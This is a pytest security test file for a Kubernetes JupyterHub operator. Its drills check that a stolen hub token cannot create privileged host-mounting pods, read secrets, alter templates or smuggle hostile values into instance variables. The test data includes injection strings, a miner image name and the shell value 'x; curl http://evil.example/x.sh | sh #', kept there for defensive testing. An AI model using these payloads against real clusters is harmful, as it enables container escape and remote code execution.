"""Breach drills: an attacker holds the hub's ServiceAccount token. Each test is one attack, run against the real
API server with the hub's RBAC and the webhook in place; each must fail, and leave nothing behind."""

from __future__ import annotations

import copy
from typing import Any

import pytest

from jupyternetes import constants, kube
from jupyternetes.dev import cluster as cluster_mod
from jupyternetes.dev.cluster import HUB, LocalCluster
from tests import seeds
from tests.security.drills import IMAGE, NAMESPACE, TEMPLATE, instance, refused_by, unique
from tests.support import processes
from tests.support.stacks import Stack

pytestmark = pytest.mark.cluster


def _pod(name: str, labels: dict[str, str] | None = None) -> dict[str, Any]:
    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": NAMESPACE,
                                                            "labels": labels or {}},
            "spec": {"containers": [{"name": "evil", "image": "docker.io/library/busybox:1",
                                     "securityContext": {"privileged": True}}],
                     "volumes": [{"name": "root", "hostPath": {"path": "/"}}]}}


def _workload(kind: str, api_version: str, name: str) -> dict[str, Any]:
    pod_template = {"metadata": {"labels": {"app": name}}, "spec": _pod(name)["spec"]}
    spec: dict[str, Any]
    if kind == "Job":
        spec = {"template": {**pod_template, "spec": {**pod_template["spec"], "restartPolicy": "Never"}}}
    elif kind == "CronJob":
        spec = {"schedule": "* * * * *", "jobTemplate": {"spec": {"template": {
            **pod_template, "spec": {**pod_template["spec"], "restartPolicy": "Never"}}}}}
    else:
        spec = {"selector": {"matchLabels": {"app": name}}, "template": pod_template}
        if kind == "StatefulSet":
            spec["serviceName"] = name
    return {"apiVersion": api_version, "kind": kind, "metadata": {"name": name, "namespace": NAMESPACE},
            "spec": spec}


class TestTheHubCannotRunWorkloads:
    def test_create_a_privileged_pod_with_the_host_filesystem(self, hub: kube.Kube, admin: kube.Kube) -> None:
        name = unique("drill-pod")
        with pytest.raises(kube.Forbidden) as refused:
            hub.create(_pod(name))
        assert 'cannot create resource "pods"' in refused.value.message
        assert not admin.exists(kube.POD, name, NAMESPACE)

    @pytest.mark.parametrize(("kind", "api_version"), [
        ("Deployment", "apps/v1"), ("Job", "batch/v1"), ("CronJob", "batch/v1"), ("StatefulSet", "apps/v1"),
        ("DaemonSet", "apps/v1"),
    ])
    def test_create_a_workload_controller_that_would_make_pods(self, hub: kube.Kube, admin: kube.Kube, kind: str,
                                                               api_version: str) -> None:
        name = unique(f"drill-{kind.lower()}")
        with pytest.raises(kube.Forbidden) as refused:
            hub.create(_workload(kind, api_version, name))
        assert refused_by(refused.value.message) == "rbac"
        plural = {"Deployment": "deployments", "Job": "jobs", "CronJob": "cronjobs", "StatefulSet": "statefulsets",
                  "DaemonSet": "daemonsets"}[kind]
        assert f'cannot create resource "{plural}"' in refused.value.message
        assert not admin.exists(kube.KNOWN_TYPES[(api_version, kind)], name, NAMESPACE)

    def test_create_a_pod_wearing_jupyternetes_labels(self, hub: kube.Kube, admin: kube.Kube) -> None:
        name = unique("drill-labelled")
        labels = {constants.LABEL_INSTANCE: "someone", constants.LABEL_MANAGED_BY: constants.MANAGED_BY}
        with pytest.raises(kube.Forbidden) as by_rbac:
            hub.create(_pod(name, labels))
        assert refused_by(by_rbac.value.message) == "rbac"
        # Even an identity that may create pods (here the cluster admin) cannot label its way in: the admission
        # policy, inside the API server (and the webhook behind it: tests/security/test_admission_layers.py).
        with pytest.raises(kube.Forbidden) as refused:
            admin.create(_pod(name, labels))
        assert refused_by(refused.value.message) == "policy:jupyternetes-objects-belong-to-the-operator"
        assert "only the Jupyternetes operator may create pods that carry Jupyternetes labels" in \
            refused.value.message
        assert not admin.exists(kube.POD, name, NAMESPACE)

    @pytest.mark.parametrize("how", ["exec", "attach"])
    def test_exec_or_attach_into_a_users_pod(self, cluster: LocalCluster, admin: kube.Kube, how: str) -> None:
        name = unique(f"drill-{how}")
        admin.create({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": NAMESPACE},
                      "spec": {"containers": [{"name": "c", "image": "example.invalid/user:1"}]}})
        try:
            # kubectl would stop earlier (the hub cannot even read the pod); the subresource itself is asked here.
            params = {"command": "id", "stdout": "true"} if how == "exec" else {"stdout": "true"}
            with cluster.kube(HUB) as hub, pytest.raises(kube.Forbidden) as refused:
                hub.request("POST", kube.POD.path(NAMESPACE, name, how), params=params)
            assert refused_by(refused.value.message) == "rbac"
            assert f'cannot create resource "pods/{how}"' in refused.value.message
        finally:
            admin.delete(kube.POD, name, NAMESPACE)


class TestTheHubCannotReachSecrets:
    def test_read_list_or_create_secrets(self, hub: kube.Kube, admin: kube.Kube) -> None:
        name = unique("drill-secret")
        admin.create({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": name, "namespace": NAMESPACE},
                      "stringData": {"token": "someone else's"}})
        try:
            for verb, attempt in (("get", lambda: hub.get(kube.SECRET, name, NAMESPACE)),
                                  ("list", lambda: hub.list(kube.SECRET, NAMESPACE)),
                                  ("list", lambda: hub.list(kube.SECRET))):
                with pytest.raises(kube.Forbidden) as refused:
                    attempt()
                assert refused_by(refused.value.message) == "rbac"
                assert f'cannot {verb} resource "secrets"' in refused.value.message
            forged = unique("drill-forged")
            with pytest.raises(kube.Forbidden) as created:
                hub.create({"apiVersion": "v1", "kind": "Secret",
                            "metadata": {"name": forged, "namespace": NAMESPACE}, "stringData": {"x": "y"}})
            assert refused_by(created.value.message) == "rbac"
            assert 'cannot create resource "secrets"' in created.value.message
            assert not admin.exists(kube.SECRET, forged, NAMESPACE)
        finally:
            admin.delete(kube.SECRET, name, NAMESPACE)

    def test_read_a_users_instance_secret_through_a_pod_it_makes(self, hub: kube.Kube, admin: kube.Kube) -> None:
        """The hub cannot mount a Secret either: it cannot create the pod that would (an unprivileged one, so that
        nothing but the hub's lack of pod rights refuses it)."""
        name = unique("drill-mount")
        pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": NAMESPACE},
               "spec": {"containers": [{"name": "c", "image": IMAGE}],
                        "volumes": [{"name": "s", "secret": {"secretName": "anything"}}]}}
        with pytest.raises(kube.Forbidden) as refused:
            hub.create(pod)
        assert refused_by(refused.value.message) == "rbac"
        assert 'cannot create resource "pods"' in refused.value.message
        assert not admin.exists(kube.POD, name, NAMESPACE)


class TestTheHubCannotChangeTemplates:
    def test_create_a_template_of_its_own(self, hub: kube.Kube, admin: kube.Kube, cluster: LocalCluster) -> None:
        for namespace in (NAMESPACE, cluster.config.template_namespace):
            template = copy.deepcopy(seeds.seed_template())
            template["metadata"] = {"name": "drill-own-template", "namespace": namespace}
            with pytest.raises(kube.Forbidden) as refused:
                hub.create(template)
            assert refused_by(refused.value.message) == "rbac"
            assert 'cannot create resource "jupyternotebooktemplates"' in refused.value.message
            assert not admin.exists(kube.TEMPLATE, "drill-own-template", namespace)

    def test_edit_an_approved_template(self, hub: kube.Kube, admin: kube.Kube, cluster: LocalCluster,
                                       drill_template: dict[str, Any]) -> None:
        """The edit is a label, which every admission layer would let through: only RBAC can stop it."""
        namespace = cluster.config.template_namespace
        before = admin.get(kube.TEMPLATE, TEMPLATE, namespace)
        admin.patch(kube.TEMPLATE, TEMPLATE, {"metadata": {"labels": {"drill": "by-admin"}}}, namespace,
                    dryRun="All")  # the control: the same edit by an identity RBAC allows is admitted
        with pytest.raises(kube.Forbidden) as patched:
            hub.patch(kube.TEMPLATE, TEMPLATE, {"metadata": {"labels": {"drill": "by-hub"}}}, namespace)
        assert refused_by(patched.value.message) == "rbac"
        assert 'cannot patch resource "jupyternotebooktemplates"' in patched.value.message
        with pytest.raises(kube.Forbidden) as deleted:
            hub.delete(kube.TEMPLATE, TEMPLATE, namespace)
        assert refused_by(deleted.value.message) == "rbac"
        assert 'cannot delete resource "jupyternotebooktemplates"' in deleted.value.message
        stored = admin.get(kube.TEMPLATE, TEMPLATE, namespace)
        assert stored["metadata"]["resourceVersion"] == before["metadata"]["resourceVersion"]
        assert stored["spec"]["pods"][0]["spec"]["containers"][0]["image"] == IMAGE


class TestTheHubCannotEscapeItsTemplates:
    @pytest.mark.parametrize("template_namespace", ["kube-system", "jupyternetes", "some-other-team"])
    def test_instance_naming_a_template_in_a_forbidden_namespace(self, hub: kube.Kube, admin: kube.Kube,
                                                                 stack: Stack, template_namespace: str) -> None:
        name = unique("drill-forbidden-ns")
        with pytest.raises(kube.Forbidden) as refused:
            hub.create(instance(name, template_namespace=template_namespace))
        assert "(rule template-namespace)" in refused.value.message
        assert not admin.exists(kube.INSTANCE, name, NAMESPACE)

    def test_instance_naming_a_template_that_does_not_exist(self, hub: kube.Kube, admin: kube.Kube) -> None:
        """Refused: nothing is admitted that has not been judged against its template, and an instance cannot be
        judged against a template that is not there."""
        name = unique("drill-missing")
        with pytest.raises(kube.Forbidden) as refused:
            hub.create(instance(name, template="no-such-template"))
        assert refused_by(refused.value.message) == "webhook:instances.validate.jupyternetes.kadense.io"
        assert "template kadense/no-such-template does not exist" in refused.value.message
        assert "(rule template-missing)" in refused.value.message
        assert not admin.exists(kube.INSTANCE, name, NAMESPACE)

    def test_patch_an_instances_status_to_point_the_proxy_elsewhere(
        self, hub: kube.Kube, admin: kube.Kube, stack: Stack, drill_template: dict[str, Any],
        operator: processes.Component,
    ) -> None:
        """Each edit is a label or an annotation, which every admission layer lets through (the control shows it for
        an identity RBAC allows): only RBAC can stop the hub."""
        name = unique("drill-status")
        hub.create(instance(name))
        label = {"metadata": {"labels": {"drill": "x"}}}
        try:
            admin.patch(kube.INSTANCE, name, label, NAMESPACE, dryRun="All")
            admin.patch(kube.INSTANCE, name, label, NAMESPACE, subresource="status", dryRun="All")
            with pytest.raises(kube.Forbidden) as refused:
                hub.patch(kube.INSTANCE, name, label, NAMESPACE, subresource="status")
            assert refused_by(refused.value.message) == "rbac"
            assert 'cannot patch resource "jupyternotebookinstances/status"' in refused.value.message
            with pytest.raises(kube.Forbidden) as patched:
                hub.patch(kube.INSTANCE, name, label, NAMESPACE)
            assert refused_by(patched.value.message) == "rbac"
            assert 'cannot patch resource "jupyternotebookinstances"' in patched.value.message
            assert "drill" not in (admin.get(kube.INSTANCE, name, NAMESPACE)["metadata"].get("labels") or {})
        finally:
            hub.delete(kube.INSTANCE, name, NAMESPACE)


# Each attack, with the rule that must refuse it and the words its message must contain: a refusal for any other
# reason (the policy engine down, another rule, another layer) does not pass.
HOSTILE_REFUSED: dict[str, tuple[dict[str, str], str, str]] = {
    "privileged-container-by-yaml": ({"jupyterhub.user.name": "x\n    securityContext:\n      privileged: true"},
                                     "variables", 'variable "jupyterhub.user.name" does not match the pattern'),
    "hostpath-mount-by-yaml": ({"jupyterhub.user.name": "x\nvolumes: [{name: root, hostPath: {path: /}}]"},
                               "variables", 'variable "jupyterhub.user.name" does not match the pattern'),
    "another-image-by-new-variable": ({"image": "docker.io/evil/miner:1"}, "variables",
                                      'variable "image" is neither used by the template nor defined by the spawner'),
    "spoofed-derived-name": ({"jupyternetes.pods.notebook": "kube-apiserver"}, "render",
                             "is derived by Jupyternetes as 'drill-hostile-"),
    "oversized-value": ({"jupyterhub.user.name": "x" * 5000}, "variables",
                        'variable "jupyterhub.user.name" is 5000 characters long; the most allowed is 4096'),
}
HOSTILE_INERT = {
    "privileged-container-by-json": 'x", "securityContext": {"privileged": true}, "y": "',
    "extra-container-by-json": 'x"}], "containers": [{"name": "evil", "image": "docker.io/evil/miner:1"}], "z": [{"',
    "changed-command-by-shell": "x; curl http://evil.example/x.sh | sh #",
    "hostpath-by-path-traversal": "../../../../../../",
    "placeholder-reexpansion": "{jupyternetes.instance.namespace}{{",
}


class TestHostileVariables:
    @pytest.mark.parametrize("attack", sorted(HOSTILE_REFUSED))
    def test_hostile_values_the_policy_refuses(self, hub: kube.Kube, admin: kube.Kube, stack: Stack,
                                               drill_template: dict[str, Any], attack: str) -> None:
        variables, rule, words = HOSTILE_REFUSED[attack]
        name = unique("drill-hostile")
        with pytest.raises(kube.Forbidden) as refused:
            hub.create(instance(name, **variables))
        assert refused_by(refused.value.message) == "webhook:instances.validate.jupyternetes.kadense.io"
        assert f"(rule {rule})" in refused.value.message
        assert words in refused.value.message
        assert not admin.exists(kube.INSTANCE, name, NAMESPACE)

    @pytest.mark.parametrize("attack", sorted(HOSTILE_INERT))
    def test_hostile_values_that_pass_the_policy_stay_inert_text(
        self, hub: kube.Kube, admin: kube.Kube, stack: Stack, drill_template: dict[str, Any],
        operator: processes.Component, attack: str,
    ) -> None:
        """Allowed characters, so the instance is admitted; the pod that results is the template's, with the value
        as plain text in the places the template author chose, and nothing else."""
        value = HOSTILE_INERT[attack]
        name = unique("drill-inert")
        hub.create(instance(name, **{"jupyterhub.user.name": value}))
        try:
            selector = f"{constants.LABEL_INSTANCE}={name}"
            pods: list[dict[str, Any]] = []

            def created() -> bool:
                nonlocal pods
                pods = admin.list(kube.POD, NAMESPACE, labelSelector=selector)["items"]
                return bool(pods)

            cluster_mod.wait_for(f"the pod of {name}", created, timeout=60, interval=0.2)
            assert len(pods) == 1
            spec = pods[0]["spec"]
            assert [c["name"] for c in spec["containers"]] == ["notebook"]
            container = spec["containers"][0]
            assert container["image"] == IMAGE
            assert container["command"] == ["jupyterhub-singleuser"]
            assert container["args"] == ["--ip=0.0.0.0", f"--notebook-dir=/home/{value}"]
            assert {e["name"]: e.get("value") for e in container["env"]}["JUPYTERHUB_USER"] == value
            assert container["securityContext"].get("privileged") in (None, False)
            assert container["securityContext"]["allowPrivilegeEscalation"] is False
            assert not any("hostPath" in v for v in spec.get("volumes", []))
            assert pods[0]["metadata"]["annotations"]["user"] == value
        finally:
            hub.delete(kube.INSTANCE, name, NAMESPACE)
